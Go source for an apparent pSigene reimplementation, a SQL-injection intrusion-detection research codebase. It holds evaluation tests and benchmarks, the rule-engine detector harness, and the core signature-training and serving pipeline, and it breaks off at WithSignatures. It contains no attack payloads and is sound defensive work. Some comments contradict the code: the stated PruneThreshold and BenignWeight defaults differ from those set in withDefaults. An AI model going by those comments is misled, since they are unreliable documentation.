	reqs := mixedWorkload(400)
	ParallelEvaluate(e, reqs, runtime.GOMAXPROCS(0)*2)
}

// BenchmarkParallelEvaluate pairs the serial Evaluate baseline against
// ParallelEvaluate at several worker counts on the same workload.
func BenchmarkParallelEvaluate(b *testing.B) {
	e, err := NewRuleEngine(ruleset.ModSecCRS(), Options{})
	if err != nil {
		b.Fatal(err)
	}
	reqs := mixedWorkload(2000)
	b.Run("serial", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			Evaluate(e, reqs)
		}
	})
	for _, bc := range []struct {
		name    string
		workers int
	}{{"workers1", 1}, {"workers4", 4}} {
		b.Run(bc.name, func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				ParallelEvaluate(e, reqs, bc.workers)
			}
		})
	}
}
