package ids

import (
	"runtime"
	"testing"

	"psigene/internal/attackgen"
	"psigene/internal/httpx"
	"psigene/internal/ruleset"
	"psigene/internal/traffic"
)

func mixedWorkload(n int) []httpx.Request {
	reqs := attackgen.NewGenerator(attackgen.SQLMapProfile(), 1).Requests(n / 2)
	return append(reqs, traffic.NewGenerator(2).Requests(n/2)...)
}

func TestParallelEvaluateMatchesSequential(t *testing.T) {
	e := mustEngine(t, ruleset.Snort(), Options{})
	reqs := mixedWorkload(600)
	seq := Evaluate(e, reqs)
	for _, workers := range []int{1, 2, 3, 8, 1000} {
		par := ParallelEvaluate(e, reqs, workers)
		if par != seq {
			t.Fatalf("workers=%d: %+v != sequential %+v", workers, par, seq)
		}
	}
	// Default worker count.
	if par := ParallelEvaluate(e, reqs, 0); par != seq {
		t.Fatalf("default workers: %+v != %+v", par, seq)
	}
}

func TestParallelEvaluateEmpty(t *testing.T) {
	e := mustEngine(t, ruleset.Bro(), Options{})
	r := ParallelEvaluate(e, nil, 4)
	if r != (EvalResult{}) {
		t.Fatalf("empty input: %+v", r)
	}
}

func TestParallelEvaluateRace(t *testing.T) {
	// Exercised under -race in CI: concurrent Inspect on a shared engine.
	e := mustEngine(t, ruleset.ModSecCRS(), Options{})
	reqs := mixedWorkload(400)
	ParallelEvaluate(e, reqs, runtime.GOMAXPROCS(0)*2)
}

func BenchmarkParallelEvaluate(b *testing.B) {
	e, err := NewRuleEngine(ruleset.ModSecCRS(), Options{})
	if err != nil {
		b.Fatal(err)
	}
	reqs := mixedWorkload(2000)
	for _, workers := range []int{1, 4} {
		name := "workers1"
		if workers == 4 {
			name = "workers4"
		}
		b.Run(name, func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				ParallelEvaluate(e, reqs, workers)
			}
		})
	}
}
