// Package ids implements the detection engines the paper evaluates:
// deterministic signature matching (Snort/Bro semantics: any one matching
// enabled rule raises an alert) and anomaly scoring (ModSecurity semantics:
// matching rules contribute weighted scores against a threshold). The
// pSigene engine itself lives in internal/core and implements the same
// Detector interface, so all systems plug into one evaluation harness.
package ids

import (
	"fmt"
	"regexp"
	"strings"
	"time"

	"psigene/internal/httpx"
	"psigene/internal/normalize"
	"psigene/internal/ruleset"
)

// Verdict is the outcome of inspecting one request.
type Verdict struct {
	// Alert says whether the detector fired.
	Alert bool
	// Score is the anomaly score (scoring engines) or the number of
	// matching rules (deterministic engines).
	Score int
	// Matched lists the matching rule or signature identifiers.
	Matched []string
}

// Detector is anything that can inspect a request: a rule engine, the
// pSigene signature set, or the Perdisci baseline.
type Detector interface {
	// Name identifies the system in reports.
	Name() string
	// Inspect classifies a single request.
	Inspect(req httpx.Request) Verdict
}

// InspectSession is a single-goroutine serving context checked out from a
// SessionDetector. It produces verdicts identical to the detector's own
// Inspect but may reuse private scratch buffers between calls, so a held
// session inspects without heap allocations. Not safe for concurrent use;
// Close returns the scratch to the detector's pools.
type InspectSession interface {
	// Inspect classifies a single request, exactly as Detector.Inspect.
	Inspect(req httpx.Request) Verdict
	// Close releases the session's scratch. The session must not be used
	// afterwards.
	Close()
}

// SessionDetector is a Detector that can check out per-goroutine serving
// sessions. Evaluate and ParallelEvaluate use one session per worker when
// the detector offers them, which keeps the measured hot path
// allocation-free without changing any verdict.
type SessionDetector interface {
	Detector
	// NewSession checks out a serving session; callers own it until Close.
	NewSession() InspectSession
}

// Options configures rule-engine construction.
type Options struct {
	// IncludeDisabled loads rules that ship disabled by default, as the
	// paper does when merging the Snort and ET sets for Table V.
	IncludeDisabled bool
}

// RuleEngine evaluates a ruleset against requests.
type RuleEngine struct {
	name      string
	mode      ruleset.Mode
	threshold int
	rules     []compiledRule
}

var _ Detector = (*RuleEngine)(nil)

type compiledRule struct {
	id      string
	target  ruleset.Target
	score   int
	re      *regexp.Regexp // nil for content rules
	content string         // lowercase substring for content rules
}

// NewRuleEngine compiles a ruleset into an engine.
func NewRuleEngine(rs ruleset.Ruleset, opts Options) (*RuleEngine, error) {
	e := &RuleEngine{name: rs.Name, mode: rs.Mode, threshold: rs.AnomalyThreshold}
	if e.mode == ruleset.ModeAnomalyScoring && e.threshold <= 0 {
		return nil, fmt.Errorf("ids: ruleset %s: anomaly scoring needs a positive threshold", rs.Name)
	}
	for _, r := range rs.Rules {
		if !r.Enabled && !opts.IncludeDisabled {
			continue
		}
		cr := compiledRule{id: r.ID, target: r.Target, score: r.Score}
		switch r.Kind {
		case ruleset.MatchRegex:
			// Anomaly-scoring (WAF) rules see only the normalized lowercase
			// view, so they compile case-sensitive — significantly cheaper
			// to match; IDS rules also scan the raw buffer and need (?i).
			pat := r.Pattern
			if e.mode != ruleset.ModeAnomalyScoring {
				pat = "(?i)" + pat
			}
			re, err := regexp.Compile(pat)
			if err != nil {
				return nil, fmt.Errorf("ids: rule %s: %w", r.ID, err)
			}
			cr.re = re
		case ruleset.MatchContent:
			cr.content = strings.ToLower(r.Pattern)
		default:
			return nil, fmt.Errorf("ids: rule %s: unknown match kind %d", r.ID, r.Kind)
		}
		if cr.score == 0 {
			cr.score = 1
		}
		e.rules = append(e.rules, cr)
	}
	return e, nil
}

// Name implements Detector.
func (e *RuleEngine) Name() string { return e.name }

// RuleCount returns the number of loaded (matchable) rules.
func (e *RuleEngine) RuleCount() int { return len(e.rules) }

// Inspect implements Detector. Rules see both the raw and the normalized
// (decoded, lowercased) view of their target buffer, mirroring IDS
// preprocessor behaviour.
func (e *RuleEngine) Inspect(req httpx.Request) Verdict {
	rawPayload := req.Payload()
	normPayload := normalize.Normalize(rawPayload)
	rawURI := req.URL()
	var normURI string // computed lazily; most rules target the payload

	var v Verdict
	for i := range e.rules {
		r := &e.rules[i]
		var raw, norm string
		switch r.target {
		case ruleset.TargetURI:
			if normURI == "" {
				normURI = normalize.Normalize(rawURI)
			}
			raw, norm = rawURI, normURI
		default:
			raw, norm = rawPayload, normPayload
		}
		// Anomaly-scoring engines model a WAF, which inspects the decoded
		// argument view only; IDS-style deterministic engines also scan the
		// raw buffer, as their preprocessors do.
		if !r.matches(raw, norm, e.mode == ruleset.ModeAnomalyScoring) {
			continue
		}
		v.Matched = append(v.Matched, r.id)
		v.Score += r.score
		if e.mode == ruleset.ModeDeterministic {
			// One matching rule is an alert; keep scanning only to report
			// the full match list in deterministic mode? Snort alerts per
			// rule; the verdict is already decided.
			v.Alert = true
		}
	}
	if e.mode == ruleset.ModeAnomalyScoring {
		v.Alert = v.Score >= e.threshold
	}
	return v
}

func (r *compiledRule) matches(raw, norm string, normOnly bool) bool {
	if r.re != nil {
		if normOnly {
			return r.re.MatchString(norm)
		}
		return r.re.MatchString(norm) || r.re.MatchString(raw)
	}
	if normOnly {
		return strings.Contains(norm, r.content)
	}
	return strings.Contains(norm, r.content) || strings.Contains(strings.ToLower(raw), r.content)
}

// EvalResult is the outcome of running a detector over a labeled request
// stream: the confusion matrix against the requests' ground-truth labels,
// plus measured per-request scoring latency.
type EvalResult struct {
	TP, FP, TN, FN int
	// Latency summarizes how long Inspect took per request. The counts
	// are deterministic for a fixed detector and stream; Latency is a
	// wall-clock measurement and varies run to run — compare Confusion()
	// when asserting equality.
	Latency LatencyStats
}

// Confusion is the deterministic part of an EvalResult, comparable with ==.
type Confusion struct {
	TP, FP, TN, FN int
}

// Confusion returns the confusion counts without the latency measurement.
func (r EvalResult) Confusion() Confusion {
	return Confusion{TP: r.TP, FP: r.FP, TN: r.TN, FN: r.FN}
}

// TPR is the detection rate.
func (r EvalResult) TPR() float64 {
	if r.TP+r.FN == 0 {
		return 0
	}
	return float64(r.TP) / float64(r.TP+r.FN)
}

// FPR is the false-alarm rate.
func (r EvalResult) FPR() float64 {
	if r.FP+r.TN == 0 {
		return 0
	}
	return float64(r.FP) / float64(r.FP+r.TN)
}

// Evaluate inspects every request and scores the detector against the
// ground truth carried by the requests, timing each Inspect call.
func Evaluate(d Detector, reqs []httpx.Request) EvalResult {
	r, lats := evaluate(d, reqs, time.Now)
	r.Latency = SummarizeLatency(lats)
	return r
}

// evaluate is the core scoring loop. The clock is a parameter so the
// percentile math is testable against a synthetic monotonic clock; the
// confusion counts never depend on it.
func evaluate(d Detector, reqs []httpx.Request, clock func() time.Time) (EvalResult, []time.Duration) {
	inspect := d.Inspect
	if sd, ok := d.(SessionDetector); ok {
		sess := sd.NewSession()
		defer sess.Close()
		inspect = sess.Inspect
	}
	var r EvalResult
	lats := make([]time.Duration, 0, len(reqs))
	for _, req := range reqs {
		start := clock()
		alert := inspect(req).Alert
		lats = append(lats, clock().Sub(start))
		switch {
		case alert && req.Malicious:
			r.TP++
		case alert && !req.Malicious:
			r.FP++
		case !alert && req.Malicious:
			r.FN++
		default:
			r.TN++
		}
	}
	return r, lats
}
