// Package core implements pSigene itself: the four-phase pipeline that
// turns a corpus of attack samples and benign traffic into a set of
// generalized SQL-injection signatures, plus the runtime engine that
// matches those signatures against HTTP requests.
//
// Phases (Figure 1 of the paper):
//
//  1. collection — attack requests, typically from internal/crawl;
//  2. feature extraction — internal/feature's 477-candidate catalog,
//     pruned to the observed set (the paper's 159);
//  3. biclustering — internal/cluster's two-way UPGMA with ≥5% selection
//     and black-hole rejection;
//  4. signature generation — one logistic-regression model per bicluster,
//     trained against benign traffic with PCG and pruned (Table VI).
//
// The trained Model implements ids.Detector: a request is normalized, its
// feature counts extracted (the count_all operation of the paper's Bro
// implementation), each signature's sigmoid evaluated, and an alert raised
// when any signature's probability crosses its threshold.
package core

import (
	"errors"
	"fmt"
	"sort"
	"sync"
	"sync/atomic"

	"psigene/internal/cluster"
	"psigene/internal/feature"
	"psigene/internal/httpx"
	"psigene/internal/ids"
	"psigene/internal/matrix"
	"psigene/internal/ml"
	"psigene/internal/normalize"
)

// Config tunes the pipeline. Zero values take paper-faithful defaults.
type Config struct {
	// Catalog is the candidate feature set; nil means feature.Catalog().
	Catalog *feature.Set
	// Cluster configures biclustering (5% rule, black holes).
	Cluster cluster.Options
	// Train configures the per-signature logistic regressions.
	Train ml.TrainOptions
	// PruneThreshold is the relative coefficient-importance cutoff for
	// post-training feature pruning (Table VI's biclustering-vs-signature
	// feature counts). 0 means 0.05; negative disables pruning.
	PruneThreshold float64
	// Threshold is the signature decision probability. 0 means 0.5.
	Threshold float64
	// BinaryFeatures clamps counts to presence flags — the ablation the
	// paper reports as "did not produce good results".
	BinaryFeatures bool
	// BenignWeight multiplies the weight of every benign training sample —
	// cost-sensitive training that makes the logistic signatures demand
	// co-occurring evidence instead of a single strong feature, keeping the
	// false-positive rate at the paper's level. 0 means 10; negative
	// disables the reweighting.
	BenignWeight float64
	// MaxClusterSamples caps the number of unique samples fed to the
	// quadratic HAC step; the remainder are assigned to the nearest
	// bicluster centroid afterwards and still train the signatures. This is
	// what lets the pipeline scale to the paper's 30,000-sample corpus.
	// 0 means 2500; negative disables the cap.
	MaxClusterSamples int
	// DenseBacking carries the training matrices as dense row-major
	// storage (the reference implementation) instead of the default
	// compressed-sparse-row backing. The two produce bit-identical
	// signatures — the parity tests train both ways and compare — so this
	// exists for verification, not tuning.
	DenseBacking bool
	// MinAttackSamples is the coverage floor for training on a degraded
	// crawl: Train refuses (ErrInsufficientSamples) when fewer attack
	// samples arrive, so a mostly-failed crawl cannot silently train a
	// near-empty model. 0 means 1 (any non-empty corpus trains).
	MinAttackSamples int
	// DisablePrefilter turns off the Aho-Corasick literal prefilter in
	// front of the catalog regexes (feature.Extractor's staged fast path)
	// for this model's extractors, both at training time and in the model
	// it produces. The prefilter is a pure gating optimization — vectors,
	// scores, and trained coefficients are bit-identical either way, which
	// the parity tests enforce — so this exists for verification and
	// benchmark baselines, not tuning.
	DisablePrefilter bool
	// Parallelism is the worker count for the training pipeline: feature
	// extraction, the distance kernels inside biclustering, and the
	// per-bicluster logistic regressions. 0 means GOMAXPROCS, 1 forces the
	// serial path. Every parallel stage partitions work into disjoint
	// output regions with unchanged per-entry float accumulation order, so
	// models trained at any Parallelism are bit-identical — the parity
	// tests compare them with ==. Cluster.Parallelism, when left zero,
	// inherits this value.
	Parallelism int
}

func (c Config) withDefaults() Config {
	if c.Catalog == nil {
		cat := feature.Catalog()
		c.Catalog = &cat
	}
	if c.PruneThreshold == 0 {
		c.PruneThreshold = 0.2
	}
	if c.Threshold <= 0 {
		c.Threshold = 0.5
	}
	if c.BenignWeight == 0 {
		c.BenignWeight = 25
	}
	if c.BenignWeight < 0 {
		c.BenignWeight = 1
	}
	if c.MaxClusterSamples == 0 {
		c.MaxClusterSamples = 2500
	}
	if c.MinAttackSamples <= 0 {
		c.MinAttackSamples = 1
	}
	return c
}

// Signature is one generalized signature: a logistic model over the
// discriminating features of one bicluster.
type Signature struct {
	// ID is the bicluster id (Figure 2 numbering).
	ID int
	// SampleWeight is the number of training samples in the bicluster.
	SampleWeight float64
	// BiclusterFeatures is the feature count selected by biclustering
	// (Table VI middle column).
	BiclusterFeatures int
	// Features are the post-pruning feature columns, as indices into the
	// model's observed feature set (Table VI right column counts these).
	Features []int
	// Model is the trained logistic regression over Features.
	Model *ml.LogisticModel
	// Threshold is the alert probability cutoff.
	Threshold float64

	// The sparse-scoring index: a dense observed-column → weight table
	// (with a presence mask — absent columns must contribute nothing, not
	// a zero term, for bit-identity with Probability) plus the alert label,
	// both built once off the hot path.
	indexOnce sync.Once
	colWeight []float64
	colUsed   []bool
	label     string
}

// Probability evaluates the signature on a full observed-feature vector.
func (s *Signature) Probability(full []float64) float64 {
	x := make([]float64, len(s.Features))
	for i, j := range s.Features {
		x[i] = full[j]
	}
	return s.Model.Predict(x)
}

// ProbabilitySparse evaluates the signature on a sparse observed-feature
// vector (ascending column indices with their nonzero counts). Cost is
// O(request nonzeros): each firing feature indexes the signature's dense
// column→weight table, so benign traffic — which fires almost nothing —
// is scored almost for free, with no per-call allocation. This is the
// serving hot path.
func (s *Signature) ProbabilitySparse(cols []int, vals []float64) float64 {
	s.buildIndex()
	// Accumulate the dot product first and add the bias afterwards — the
	// same association Probability uses — and walk cols ascending with a
	// presence check, the same terms in the same order as the map-based
	// walk this replaces, so both paths produce identical bits.
	var dot float64
	w, used := s.colWeight, s.colUsed
	for k, j := range cols {
		if j < len(w) && used[j] {
			dot += w[j] * vals[k]
		}
	}
	return ml.Sigmoid(s.Model.Bias + dot)
}

// Label returns the identifier Inspect reports for this signature.
func (s *Signature) Label() string {
	s.buildIndex()
	return s.label
}

// buildIndex lazily builds the dense observed-column → model-weight table
// and the alert label. The sync.Once makes it safe under
// ids.ParallelEvaluate's concurrent Inspect calls.
func (s *Signature) buildIndex() {
	s.indexOnce.Do(func() {
		maxCol := -1
		for _, j := range s.Features {
			if j > maxCol {
				maxCol = j
			}
		}
		w := make([]float64, maxCol+1)
		used := make([]bool, maxCol+1)
		for k, j := range s.Features {
			w[j] = s.Model.Weights[k]
			used[j] = true
		}
		s.colWeight, s.colUsed = w, used
		s.label = fmt.Sprintf("psigene:%d", s.ID)
	})
}

// Model is a trained pSigene signature set.
type Model struct {
	// Features is the observed (pruned) feature set — the paper's 159.
	Features feature.Set
	// Signatures are the generalized signatures in bicluster order.
	Signatures []*Signature
	// Biclustering preserves the full clustering result for reporting
	// (Figure 2, Table VI).
	Biclustering *cluster.Result
	// Stats captures training-corpus statistics.
	Stats TrainStats

	extractor *feature.Extractor
	binary    bool
	threshold float64

	// Retained training state for incremental updates (Experiment 2).
	cfg           Config
	trainObserved matrix.RowMatrix
	trainWeights  []float64
	benignMat     matrix.RowMatrix
	benignW       []float64
	extra         map[int][]extraSample // bicluster ID -> appended samples
}

// extraSample is one incrementally added attack sample: its observed
// feature vector and multiplicity.
type extraSample struct {
	vec []float64
	w   float64
}

var _ ids.Detector = (*Model)(nil)

// TrainStats records corpus statistics the paper reports in §II.
type TrainStats struct {
	// AttackSamples and UniqueAttackSamples count the training corpus
	// before and after normalization dedup.
	AttackSamples, UniqueAttackSamples int
	// BenignSamples counts the benign training requests.
	BenignSamples int
	// CandidateFeatures and ObservedFeatures are the 477 → 159 reduction.
	CandidateFeatures, ObservedFeatures int
	// ZeroFraction and OneFraction describe matrix sparsity (paper: ~85%
	// zeros, ~6% ones).
	ZeroFraction, OneFraction float64
	// CopheneticCorrelation validates the row dendrogram (paper: 0.92).
	CopheneticCorrelation float64
}

// Errors returned by Train.
var (
	ErrNoAttacks = errors.New("core: no attack training samples")
	ErrNoBenign  = errors.New("core: no benign training samples")
	// ErrInsufficientSamples means the attack corpus is non-empty but below
	// Config.MinAttackSamples — typically a crawl that lost most of its
	// portals. Callers choose between lowering the floor and recrawling.
	ErrInsufficientSamples = errors.New("core: attack corpus below the configured sample floor")
)

// Train runs the full pipeline on labeled training traffic.
func Train(attacks, benign []httpx.Request, cfg Config) (*Model, error) {
	cfg = cfg.withDefaults()
	if len(attacks) == 0 {
		return nil, ErrNoAttacks
	}
	if len(attacks) < cfg.MinAttackSamples {
		return nil, fmt.Errorf("%w: %d < %d", ErrInsufficientSamples, len(attacks), cfg.MinAttackSamples)
	}
	if len(benign) == 0 {
		return nil, ErrNoBenign
	}

	// Phase 2: normalize, dedupe, extract, prune unobserved features.
	normAttacks := make([]string, len(attacks))
	for i, r := range attacks {
		normAttacks[i] = normalize.Normalize(r.Payload())
	}
	uniq, weights := feature.Dedupe(normAttacks)

	ex, err := feature.NewExtractor(*cfg.Catalog)
	if err != nil {
		return nil, fmt.Errorf("extractor: %w", err)
	}
	ex.SetPrefilter(!cfg.DisablePrefilter)
	// The training matrix is CSR by default; cfg.DenseBacking selects the
	// dense reference path, which must produce bit-identical signatures.
	var full matrix.RowMatrix
	if cfg.DenseBacking {
		full, err = ex.MatrixParallel(uniq, cfg.Parallelism)
	} else {
		full, err = ex.SparseMatrixParallel(uniq, cfg.Parallelism)
	}
	if err != nil {
		return nil, fmt.Errorf("feature matrix: %w", err)
	}
	if cfg.BinaryFeatures {
		feature.BinaryizeInPlace(full)
	}
	observed, obsSet, _, err := feature.PruneUnobserved(full, *cfg.Catalog)
	if err != nil {
		return nil, fmt.Errorf("prune unobserved: %w", err)
	}
	// Drop overlapping features (identical observed columns), the second
	// half of the paper's 477 -> 159 reduction.
	observed, obsSet, _, err = feature.PruneDuplicateColumns(observed, obsSet)
	if err != nil {
		return nil, fmt.Errorf("prune duplicates: %w", err)
	}
	obsEx, err := feature.NewExtractor(obsSet)
	if err != nil {
		return nil, fmt.Errorf("observed extractor: %w", err)
	}
	obsEx.SetPrefilter(!cfg.DisablePrefilter)
	zeroFrac, oneFrac := observed.Sparsity()

	// Phase 3: biclustering, on a capped subsample when the unique corpus
	// exceeds the quadratic-HAC budget; leftover samples are assigned to
	// the nearest bicluster centroid below.
	clusterRows := observed
	clusterWeights := weights
	var clusterIdx []int // nil when no cap applied
	if cfg.MaxClusterSamples > 0 && observed.Rows() > cfg.MaxClusterSamples {
		stride := observed.Rows() / cfg.MaxClusterSamples
		for i := 0; i < observed.Rows() && len(clusterIdx) < cfg.MaxClusterSamples; i += stride {
			clusterIdx = append(clusterIdx, i)
		}
		sub, err := observed.SelectRows(clusterIdx)
		if err != nil {
			return nil, err
		}
		subW := make([]float64, len(clusterIdx))
		for k, i := range clusterIdx {
			subW[k] = weights[i]
		}
		clusterRows, clusterWeights = sub, subW
	}
	// The biclustering distance kernels inherit the pipeline knob unless
	// the caller pinned their own worker count (both are bit-identical at
	// any setting, so this only affects wall clock).
	clOpts := cfg.Cluster
	if clOpts.Parallelism == 0 {
		clOpts.Parallelism = cfg.Parallelism
	}
	bic, err := cluster.Run(clusterRows, clusterWeights, clOpts)
	if err != nil {
		return nil, fmt.Errorf("biclustering: %w", err)
	}
	if clusterIdx != nil {
		remapBiclusters(bic, clusterIdx)
		assignLeftovers(bic, observed, weights, clusterIdx)
	}

	// Phase 4: one logistic signature per active bicluster, trained against
	// the benign corpus.
	normBenign := make([]string, len(benign))
	for i, r := range benign {
		normBenign[i] = normalize.Normalize(r.Payload())
	}
	benignUniq, benignW := feature.Dedupe(normBenign)
	var benignMat matrix.RowMatrix
	if cfg.DenseBacking {
		benignMat, err = obsEx.MatrixParallel(benignUniq, cfg.Parallelism)
	} else {
		benignMat, err = obsEx.SparseMatrixParallel(benignUniq, cfg.Parallelism)
	}
	if err != nil {
		return nil, fmt.Errorf("benign matrix: %w", err)
	}
	if cfg.BinaryFeatures {
		feature.BinaryizeInPlace(benignMat)
	}

	m := &Model{
		Features:     obsSet,
		Biclustering: bic,
		Stats: TrainStats{
			AttackSamples:         len(attacks),
			UniqueAttackSamples:   len(uniq),
			BenignSamples:         len(benign),
			CandidateFeatures:     cfg.Catalog.Len(),
			ObservedFeatures:      obsSet.Len(),
			ZeroFraction:          zeroFrac,
			OneFraction:           oneFrac,
			CopheneticCorrelation: bic.CopheneticCorrelation,
		},
		extractor:     obsEx,
		binary:        cfg.BinaryFeatures,
		threshold:     cfg.Threshold,
		cfg:           cfg,
		trainObserved: observed,
		trainWeights:  weights,
		benignMat:     benignMat,
		benignW:       benignW,
		extra:         make(map[int][]extraSample),
	}

	sigs, err := trainSignatures(observed, weights, benignMat, benignW, bic.ActiveBiclusters(), cfg)
	if err != nil {
		return nil, err
	}
	m.Signatures = sigs
	if len(m.Signatures) == 0 {
		return nil, errors.New("core: biclustering produced no active clusters")
	}
	return m, nil
}

// trainSignatures fits one logistic signature per active bicluster,
// concurrently when cfg.Parallelism allows. Each bicluster's problem is
// independent — trainSignature only reads the shared matrices — and every
// result lands in its bicluster's preassigned slot, so signature order
// and every trained coefficient are identical to the serial loop. Errors
// are reported for the lowest bicluster index that failed, matching the
// serial loop's first-error semantics.
func trainSignatures(observed matrix.RowMatrix, weights []float64, benignMat matrix.RowMatrix, benignW []float64, active []cluster.Bicluster, cfg Config) ([]*Signature, error) {
	workers := matrix.ResolveWorkers(cfg.Parallelism, len(active))
	sigs := make([]*Signature, len(active))
	if workers <= 1 {
		for i, b := range active {
			sig, err := trainSignature(observed, weights, benignMat, benignW, b, nil, cfg)
			if err != nil {
				return nil, fmt.Errorf("signature %d: %w", b.ID, err)
			}
			sigs[i] = sig
		}
		return sigs, nil
	}
	errs := make([]error, len(active))
	var next atomic.Int64
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				i := int(next.Add(1)) - 1
				if i >= len(active) {
					return
				}
				sigs[i], errs[i] = trainSignature(observed, weights, benignMat, benignW, active[i], nil, cfg)
			}
		}()
	}
	wg.Wait()
	for i, err := range errs {
		if err != nil {
			return nil, fmt.Errorf("signature %d: %w", active[i].ID, err)
		}
	}
	return sigs, nil
}

// trainSignature fits the bicluster's logistic model: bicluster samples
// (label 1) against the benign corpus (label 0), restricted to the
// bicluster's features, followed by coefficient pruning and a refit.
func trainSignature(observed matrix.RowMatrix, weights []float64, benignMat matrix.RowMatrix, benignW []float64, b cluster.Bicluster, extras []extraSample, cfg Config) (*Signature, error) {
	feats := b.Features
	if len(feats) == 0 {
		return nil, errors.New("bicluster has no discriminating features")
	}

	attackSub, err := observed.SelectRows(b.RowLeaves)
	if err != nil {
		return nil, err
	}
	attackCols, err := attackSub.SelectCols(feats)
	if err != nil {
		return nil, err
	}
	benignCols, err := benignMat.SelectCols(feats)
	if err != nil {
		return nil, err
	}

	// Stitch the per-signature training matrix block by block in whichever
	// backing the pipeline runs on: bicluster rows (label 1), incrementally
	// added samples (label 1), benign corpus (label 0).
	n := attackCols.Rows() + len(extras) + benignCols.Rows()
	bld := matrix.NewBuilder(len(feats), !cfg.DenseBacking)
	y := make([]float64, n)
	w := make([]float64, n)
	row := 0
	for i := 0; i < attackCols.Rows(); i++ {
		bld.AppendRowOf(attackCols, i)
		y[row] = 1
		w[row] = weights[b.RowLeaves[i]]
		row++
	}
	scratch := make([]float64, len(feats))
	for _, e := range extras {
		for k, j := range feats {
			scratch[k] = e.vec[j]
		}
		bld.AppendDense(scratch)
		y[row] = 1
		w[row] = e.w
		row++
	}
	for i := 0; i < benignCols.Rows(); i++ {
		bld.AppendRowOf(benignCols, i)
		w[row] = benignW[i] * cfg.BenignWeight
		row++
	}
	x := bld.Build()

	model, err := ml.TrainLogistic(x, y, w, cfg.Train)
	if err != nil {
		return nil, err
	}
	kept := feats
	if cfg.PruneThreshold > 0 {
		pr, err := ml.Prune(x, y, w, model, cfg.Train, cfg.PruneThreshold)
		if err != nil {
			return nil, err
		}
		model = pr.Model
		kept = make([]int, len(pr.Kept))
		for i, k := range pr.Kept {
			kept[i] = feats[k]
		}
	}
	return &Signature{
		ID:                b.ID,
		SampleWeight:      b.SampleWeight,
		BiclusterFeatures: len(feats),
		Features:          kept,
		Model:             model,
		Threshold:         cfg.Threshold,
	}, nil
}

// Name implements ids.Detector.
func (m *Model) Name() string {
	return fmt.Sprintf("pSigene(%d signatures)", len(m.Signatures))
}

// Vector runs phase-2 extraction on one request: normalize the payload and
// count every observed feature (the paper's count_all over each signature's
// regexes, done once for all). It returns the full dense observed-feature
// vector; the serving hot path uses SparseVector instead.
func (m *Model) Vector(req httpx.Request) []float64 {
	v := m.extractor.Vector(normalize.Normalize(req.Payload()))
	if m.binary {
		for i, x := range v {
			if x != 0 {
				v[i] = 1
			}
		}
	}
	return v
}

// SparseVector runs phase-2 extraction on one request and returns only the
// features that fired: ascending observed-column indices with their counts.
// Allocation is O(nonzeros), which for benign traffic is typically a handful
// of entries out of the full observed set.
func (m *Model) SparseVector(req httpx.Request) (cols []int, vals []float64) {
	cols, vals = m.extractor.SparseVector(normalize.Normalize(req.Payload()))
	if m.binary {
		for i := range vals {
			vals[i] = 1
		}
	}
	return cols, vals
}

// Probabilities returns each signature's probability for the request, in
// signature order.
func (m *Model) Probabilities(req httpx.Request) []float64 {
	cols, vals := m.SparseVector(req)
	out := make([]float64, len(m.Signatures))
	for i, s := range m.Signatures {
		out[i] = s.ProbabilitySparse(cols, vals)
	}
	return out
}

// scoreScratch is the per-call serving state Inspect borrows from a pool:
// the payload view, the normalization buffers, and (checked out separately,
// because it is sized to the model's extractor) the feature scratch. With
// all three pooled, inspecting a request that raises no alert performs zero
// heap allocations at steady state — the fast-path benchmarks pin this.
type scoreScratch struct {
	payload []byte
	norm    normalize.Buffer
}

// scorePool holds scoreScratch values. It is package-level rather than a
// Model field so that Model stays shallow-copyable (WithSignatures) and
// models restored by Load share the same warm pool.
var scorePool = sync.Pool{New: func() any { return new(scoreScratch) }}

// Inspect implements ids.Detector: alert when any signature's probability
// crosses its threshold. Matching goes through the sparse feature vector, so
// per-request cost scales with the number of firing features rather than the
// observed-feature count. All intermediate state is pooled; serving loops
// that want to skip even the pool round-trip hold a Session instead.
func (m *Model) Inspect(req httpx.Request) ids.Verdict {
	ss := scorePool.Get().(*scoreScratch)
	fs := m.extractor.AcquireScratch()
	v := m.inspect(req, ss, fs)
	m.extractor.ReleaseScratch(fs)
	scorePool.Put(ss)
	return v
}

// inspect is the allocation-free scoring core shared by Inspect and
// Session.Inspect. It only allocates when the verdict is an alert (the
// Matched list escapes to the caller).
func (m *Model) inspect(req httpx.Request, ss *scoreScratch, fs *feature.Scratch) ids.Verdict {
	ss.payload = req.AppendPayload(ss.payload[:0])
	cols, vals := m.extractor.SparseInto(ss.norm.NormalizeBytes(ss.payload), fs)
	if m.binary {
		for i := range vals {
			vals[i] = 1
		}
	}
	var v ids.Verdict
	for _, s := range m.Signatures {
		if p := s.ProbabilitySparse(cols, vals); p >= s.Threshold {
			v.Alert = true
			v.Score++
			v.Matched = append(v.Matched, s.Label())
		}
	}
	return v
}

// Session is a checked-out serving context: one goroutine's scratch for
// repeated Inspect calls with no pool traffic at all. It implements
// ids.InspectSession; verdicts are identical to Model.Inspect.
type Session struct {
	m  *Model
	ss *scoreScratch
	fs *feature.Scratch
}

var _ ids.SessionDetector = (*Model)(nil)

// NewSession implements ids.SessionDetector.
func (m *Model) NewSession() ids.InspectSession {
	return &Session{
		m:  m,
		ss: scorePool.Get().(*scoreScratch),
		fs: m.extractor.AcquireScratch(),
	}
}

// Inspect implements ids.InspectSession.
func (s *Session) Inspect(req httpx.Request) ids.Verdict {
	return s.m.inspect(req, s.ss, s.fs)
}

// Close implements ids.InspectSession, returning the scratch to the pools.
func (s *Session) Close() {
	s.m.extractor.ReleaseScratch(s.fs)
	scorePool.Put(s.ss)
	s.ss, s.fs = nil, nil
}

// SetPrefilter toggles the extractor's literal prefilter at serving time
// (Config.DisablePrefilter is the training-time knob). Verdicts and scores
// are bit-identical either way; the parity tests flip this on a trained
// model and compare.
func (m *Model) SetPrefilter(enabled bool) { m.extractor.SetPrefilter(enabled) }

// PrefilterEnabled reports whether the literal prefilter is active.
func (m *Model) PrefilterEnabled() bool { return m.extractor.PrefilterEnabled() }

// PrefilterStats returns the extractor's cumulative prefilter counters —
// how many regex evaluations the staged fast path skipped.
func (m *Model) PrefilterStats() feature.PrefilterStats { return m.extractor.PrefilterStats() }

// WithSignatures returns a shallow copy of the model restricted to the
// given signature IDs — how the paper evaluates the 7- vs 9-signature sets.
